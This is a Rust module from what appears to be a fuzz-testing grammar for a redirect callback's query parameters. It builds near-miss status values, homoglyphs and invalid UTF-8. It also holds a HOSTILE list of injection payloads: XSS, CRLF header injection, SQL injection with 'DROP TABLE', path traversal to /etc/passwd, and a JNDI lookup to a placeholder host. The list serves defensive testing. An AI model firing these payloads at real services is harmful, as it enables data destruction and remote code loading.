//! The dictionary of the grammar: documented names and values, near misses, and hostile texts.

use std::borrow::Cow;

use super::part::{Encoding, Part};
use super::rng::Rng;

pub(super) const STATUSES: [&str; 3] = ["success", "integration-requested", "failure"];

/// Near misses of a status.
const NEAR_STATUSES: &[&str] = &[
    "",
    "Success",
    "SUCCESS",
    "sUCCESS",
    "Failure",
    "FAILURE",
    "Integration-Requested",
    "INTEGRATION-REQUESTED",
    "integration_requested",
    "integrationRequested",
    "integration requested",
    "integration-request",
    "requested",
    "succes",
    "successs",
    "successful",
    "unsuccessful",
    "success-pending",
    "not-success",
    "successfailure",
    "ok",
    "true",
    "1",
    "connected",
    "complete",
    "pending",
    "error",
    "cancelled",
    "null",
    "undefined",
    "[object Object]",
    "success,failure",
    "success|failure",
    "success\\",
    "\"success\"",
    "'success'",
    "success.",
    "success/",
    "success#",
    "success?",
    "success&",
    "success;",
    "success&status=failure",
    "success=",
    "success=failure",
    "=success",
    "success=1",
    "failure=",
    "failure=success",
    "integration-requested=1",
    "success success",
    "provider-pending",
    "{success}",
    "$success",
    "success%",
    "succ ess",
    "failure,success",
    "integration-requested,success",
];

/// Characters to add before or after a value.
const PADDING: &[&str] = &[
    " ",
    "  ",
    "\t",
    "\n",
    "\r\n",
    "\u{0}",
    "\u{b}",
    "\u{c}",
    "\u{85}",
    "\u{a0}",
    "\u{2003}",
    "\u{200b}",
    "\u{200d}",
    "\u{feff}",
    "\u{202e}",
    "\u{2066}",
    "\u{ad}",
    "\u{301}",
    "\u{1f600}",
];

/// Letters that look like ASCII letters.
const LOOK_ALIKE: &[(u8, &str)] = &[
    (b's', "\u{455}"),
    (b'c', "\u{441}"),
    (b'e', "\u{435}"),
    (b'a', "\u{430}"),
    (b'i', "\u{456}"),
    (b'-', "\u{2010}"),
    (b'-', "\u{2011}"),
    (b'-', "\u{2212}"),
    (b'u', "\u{1d64}"),
    (b'l', "\u{29f}"),
    (b's', "\u{17f}"),
    (b'f', "\u{ff46}"),
];

/// Invalid UTF-8: lone continuation bytes, truncated and overlong sequences, surrogates, beyond the last code point.
const INVALID_UTF8: &[&[u8]] = &[
    b"\xff",
    b"\xfe\xff",
    b"\x80",
    b"\xc3",
    b"\xe2\x82",
    b"\xc1\xb3",
    b"\xe0\x81\xb3",
    b"\xc0\xaf",
    b"\xed\xa0\x80",
    b"\xf4\x90\x80\x80",
    b"\xf8\x88\x80\x80\x80",
];

/// Text that is harmful where it is repeated unescaped, with a recognisable marker.
const HOSTILE: &[&str] = &[
    "<catena-fuzz>",
    "\"><catena-fuzz a=\"",
    "'><catena-fuzz>",
    "<script>catena-fuzz</script>",
    "<img src=x onerror=catena-fuzz>",
    "</title><catena-fuzz>",
    "javascript:alert(1)//catena-fuzz",
    "\r\nX-Catena-Fuzz: 1",
    "\nX-Catena-Fuzz: 1\n",
    "\rX-Catena-Fuzz: 1",
    "\r\nSet-Cookie: catena-fuzz=1\r\n\r\n<catena-fuzz>",
    "https://catena-fuzz.example/",
    "//catena-fuzz.example",
    "/\\catena-fuzz.example",
    "https:catena-fuzz.example",
    "http://catena-fuzz.example%2f@localhost",
    "' OR '1'='1",
    "'; DROP TABLE fleets;--",
    "../../../etc/passwd",
    "{{7*7}}",
    "${jndi:ldap://catena-fuzz.example/a}",
    "%00",
    "%0d%0a",
    "%s%s%n",
    "\u{0}",
];

/// Undocumented names: partners' own, and names that often control redirects.
const OTHER_NAMES: &[&str] = &[
    "utm_source",
    "utm_medium",
    "gclid",
    "lang",
    "tenant",
    "carrier",
    "ref",
    "code",
    "redirect",
    "return_to",
    "next",
    "url",
    "continue",
    "x",
    "a",
    "_",
    "q",
    "page",
    "error",
    "error_description",
    "message",
];

const DOCUMENTED_NAMES: &[&str] =
    &["status", "integration_request_id", "skip_reason", "tsp_count", "fleet_ref", "invitation_id"];

/// Near misses of the documented names.
const NEAR_NAMES: &[&str] = &[
    "STATUS",
    "Status",
    "sTATUS",
    "status[]",
    "status[0]",
    "status[a]",
    "[status]",
    " status",
    "status ",
    "status.",
    "stat us",
    "state",
    "statuss",
    "astatus",
    "substatus",
    "x-status",
    "%73tatus",
    "status%00",
    "?status",
    "amp;status",
    "\u{455}tatus",
    "status\u{200b}",
    "status\u{0}",
    "Integration_Request_Id",
    "integration-request-id",
    "integration_request_id[]",
    "integrationRequestId",
    "request_id",
    "%69ntegration_request_id",
    "",
];

/// A status: two out of three are documented.
pub(super) fn status(rng: &mut Rng) -> Part {
    if rng.below(3) > 0 { documented(rng) } else { near_status(rng) }
}

pub(super) fn documented(rng: &mut Rng) -> Part {
    Part::plain(rng.choose(&STATUSES))
}

/// A near miss of a status, most often of `success`, because misreading it costs most.
pub(super) fn near_status(rng: &mut Rng) -> Part {
    let value = if rng.one_in(2) { "success" } else { rng.choose(&STATUSES) };
    match rng.below(8) {
        0..=2 => Part::plain(rng.choose(NEAR_STATUSES)),
        3 => {
            let pad = rng.choose(PADDING);
            Part::text(match rng.below(3) {
                0 => format!("{pad}{value}"),
                1 => format!("{value}{pad}"),
                _ => format!("{pad}{value}{pad}"),
            })
        }
        4 => Part::text(escaped_once(rng, value)),
        5 => {
            let (plain, alike) = LOOK_ALIKE.get(rng.below(LOOK_ALIKE.len())).copied().unwrap_or_default();
            Part::text(value.replacen(char::from(plain), alike, 1))
        }
        6 => {
            let invalid = rng.choose(INVALID_UTF8);
            let at = rng.below(value.len() + 1);
            let (before, after) = value.as_bytes().split_at_checked(at).unwrap_or_default();
            Part::bytes(Cow::Owned([before, invalid, after].concat()))
        }
        _ => Part::bytes(Cow::Owned(mutated(rng, value.as_bytes()))),
    }
}

/// One byte is added, removed, changed, or made upper-case.
fn mutated(rng: &mut Rng, value: &[u8]) -> Vec<u8> {
    let mut bytes = value.to_vec();
    let at = rng.below(bytes.len());
    match rng.below(4) {
        0 => bytes.insert(at, b'!' + rng.byte() % 94),
        1 => {
            bytes.remove(at);
        }
        2 => bytes.iter_mut().skip(at).take(1).for_each(|byte| *byte = rng.byte()),
        _ => bytes.iter_mut().skip(at).take(1).for_each(|byte| byte.make_ascii_uppercase()),
    }
    bytes
}

/// A value that is partly percent-encoded; in the query, its `%` is encoded again.
fn escaped_once(rng: &mut Rng, value: &str) -> String {
    let at = rng.below(value.len());
    let all = rng.one_in(4);
    let escape = |(place, letter): (usize, char)| {
        if all || place == at { format!("%{:02X}", u32::from(letter)) } else { letter.to_string() }
    };
    value.chars().enumerate().map(escape).collect()
}

pub(super) fn near_name(rng: &mut Rng) -> Part {
    Part::plain(rng.choose(NEAR_NAMES))
}

/// A parameter's name: another one of Catena's, or an undocumented one.
pub(super) fn name(rng: &mut Rng) -> Part {
    Part::plain(if rng.one_in(2) {
        rng.choose(DOCUMENTED_NAMES.get(2..).unwrap_or_default())
    } else {
        rng.choose(OTHER_NAMES)
    })
}

/// A value for such a parameter: ordinary, hostile or invalid.
pub(super) fn value(rng: &mut Rng) -> Part {
    match rng.below(10) {
        0..=4 => Part::plain(rng.choose(&[
            "1",
            "0",
            "carrier 4711",
            "not now",
            "Acme & Sons",
            "á ß 漢",
            "a=b",
            "",
            "en",
        ])),
        5..=7 => Part::plain(rng.choose(HOSTILE)),
        8 => Part::bytes(Cow::Borrowed(rng.choose(INVALID_UTF8))),
        _ => {
            let stray = Part::plain(rng.choose(&["%", "%4", "%zz", "100%", "%u0041", "%%"]));
            stray.with_encoding(Encoding { stray_percent: true, ..Encoding::default() })
        }
    }
}
